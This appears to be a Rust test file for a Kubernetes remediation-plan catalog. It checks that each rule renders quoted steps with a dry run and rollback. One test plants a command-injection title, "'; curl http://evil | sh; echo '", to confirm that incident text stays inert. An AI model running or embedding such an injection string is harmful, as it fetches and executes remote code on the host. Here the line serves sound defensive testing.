//! Every rule of the shipped catalog matches the hypothesis it is written for and renders a
//! plan whose steps all have a dry run and a rollback.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;

use faultline_core::{Cause, Labels, SeriesKey, ServiceId, TemplateId, Timestamp};
use faultline_remediate::testing::report_with;
use faultline_remediate::{Catalog, PlanContext};

fn metric(name: &str) -> Cause {
    let mut k = SeriesKey::new(ServiceId::new("payments"), name);
    k.labels = Labels::from_pairs([("pod", "payments-1")]);
    Cause::Resource { metric: k }
}

fn change(kind: &str) -> Cause {
    Cause::Change {
        change_kind: kind.into(),
        ts: Timestamp::from_secs(1_715_682_612),
        version: Some("2.32.0".into()),
    }
}

fn code(text: &str) -> Cause {
    Cause::Code {
        template: TemplateId::derive(&[text]),
        text: text.into(),
    }
}

fn params(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs
        .iter()
        .map(|(k, v)| ((*k).to_string(), (*v).to_string()))
        .collect()
}

#[test]
fn each_rule_plans_for_its_hypothesis() {
    let catalog = Catalog::default_catalog();
    let cases: Vec<(&str, Cause, f64, PlanContext)> = vec![
        (
            "helm-rollback-recent-deploy",
            change("deploy"),
            0.8,
            PlanContext {
                labels: params(&[("deploy_tool", "helm")]),
                ..Default::default()
            },
        ),
        (
            "rollback-recent-deploy",
            change("deploy"),
            0.8,
            PlanContext::default(),
        ),
        (
            "pause-suspect-rollout",
            change("deploy"),
            0.3,
            PlanContext::default(),
        ),
        (
            "revert-feature-flag",
            change("feature_flag"),
            0.8,
            PlanContext {
                params: params(&[("flag_key", "acquirer_pool_size"), ("flag_previous", "16")]),
                ..Default::default()
            },
        ),
        (
            "revert-config-by-rollout",
            change("config"),
            0.8,
            PlanContext::default(),
        ),
        (
            "jvm-heap",
            metric("jvm_heap_used_bytes"),
            0.7,
            PlanContext::default(),
        ),
        (
            "jvm-out-of-memory",
            code("java.lang.OutOfMemoryError: Java heap space"),
            0.7,
            PlanContext::default(),
        ),
        (
            "disk-cleanup",
            metric("disk_used_ratio"),
            0.7,
            PlanContext::default(),
        ),
        (
            "raise-memory-limit",
            metric("container_memory_working_set_bytes"),
            0.7,
            PlanContext::default(),
        ),
        (
            "raise-quota",
            metric("cpu_quota_exhausted"),
            0.7,
            PlanContext::default(),
        ),
        (
            "scale-out",
            metric("latency_p99_ms"),
            0.7,
            PlanContext {
                params: params(&[("current_replicas", "4")]),
                ..Default::default()
            },
        ),
        (
            "db-index-hint",
            code("canceling statement due to statement timeout"),
            0.7,
            PlanContext {
                params: params(&[("db_table", "orders"), ("db_columns", "customer_id")]),
                ..Default::default()
            },
        ),
        (
            "restart-on-code-fault",
            code("HikariPool-1 - Connection is not available, connection pool exhausted"),
            0.7,
            PlanContext::default(),
        ),
        (
            "page-dependency-owner",
            Cause::Dependency {
                service: ServiceId::new("redis"),
            },
            0.7,
            PlanContext::default(),
        ),
        ("create-itsm-ticket", Cause::Unknown, 0.1, PlanContext::default()),
    ];
    assert_eq!(cases.len(), catalog.rules().len(), "a rule is not covered");
    for (rule, cause, conf, mut ctx) in cases {
        ctx.namespace = "shop".into();
        let (report, h) = report_with("payments", cause, conf);
        let plan = catalog
            .plan(&report, &h, &ctx)
            .unwrap_or_else(|e| panic!("{rule}: {e}"))
            .unwrap_or_else(|| panic!("{rule}: no rule matched"));
        assert!(plan.rationale.contains(rule), "{rule}: got {}", plan.rationale);
        for s in &plan.steps {
            assert!(
                !s.script.is_empty() && !s.dry_run.is_empty() && !s.rollback.is_empty(),
                "{rule}: {s:?}"
            );
            assert_ne!(s.script, s.dry_run, "{rule}: dry run must differ from the script");
            faultline_remediate::quote::split(&s.script)
                .unwrap_or_else(|e| panic!("{rule}: {e}: {}", s.script));
        }
        if rule == "scale-out" {
            assert_eq!(
                plan.steps[0].script,
                "kubectl scale deployment/payments -n shop --replicas=8"
            );
        }
    }
}

#[test]
fn hostile_incident_text_cannot_reach_a_shell() {
    let (mut report, h) = report_with("payments", Cause::Unknown, 0.1);
    report.incident.title = "'; curl http://evil | sh; echo '".into();
    let plan = Catalog::default_catalog()
        .plan(&report, &h, &PlanContext::default())
        .unwrap()
        .unwrap();
    let argv = faultline_remediate::quote::split(&plan.steps[0].script).unwrap();
    let body = argv
        .iter()
        .find_map(|a| match a {
            faultline_remediate::quote::Arg::Lit(s) if s.starts_with('{') => Some(s.clone()),
            _ => None,
        })
        .unwrap();
    let json: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert!(json["short_description"]
        .as_str()
        .unwrap()
        .contains("curl http://evil | sh"));
}
